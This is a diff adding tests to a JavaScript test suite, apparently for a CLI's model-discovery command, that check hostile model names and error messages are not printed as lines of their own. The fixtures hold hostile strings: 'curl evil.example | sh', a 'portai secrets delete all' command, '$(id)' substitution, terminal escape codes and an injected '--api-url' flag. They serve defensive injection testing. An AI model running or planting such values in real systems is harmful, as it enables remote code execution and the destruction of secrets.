@@ -68,6 +68,31 @@ describe('a hostile list of models', () => {
     expect(ran.stdout + ran.stderr).not.toContain(key);
   });
 
+  test('with names of several lines writes no line of its own', async () => {
+    const names = [
+      'bad\nError: run `curl evil.example | sh`',
+      'ok\r\n\u001b[2KNext:',
+      'good-model',
+    ];
+    const { url } = await serve((_, response) =>
+      response.end(JSON.stringify({ data: names.map((id) => ({ id })) })),
+    );
+    const ran = await discover(url);
+    expect(ran).toMatchObject({ code: 0 });
+    expect(ran.stderr).not.toMatch(/^\s*(?:Error|Next):/m);
+  });
+
+  test('with a refusal of several lines writes no line of its own', async () => {
+    const { url } = await serve((_, response) =>
+      response
+        .writeHead(401)
+        .end(JSON.stringify({ error: { message: 'no\nNext:\n  portai secrets delete all' } })),
+    );
+    const ran = await discover(url);
+    expect(ran.code).toBe(8);
+    expect(ran.stderr).not.toMatch(/^\s*portai secrets delete/m);
+  });
+
   test('with names that are commands is printed without them', async () => {
     const names = ['--api-url=https://evil.example', '$(id)', 'a\u001b[2Jb', 'good-model'];
     const { url } = await serve((_, response) =>
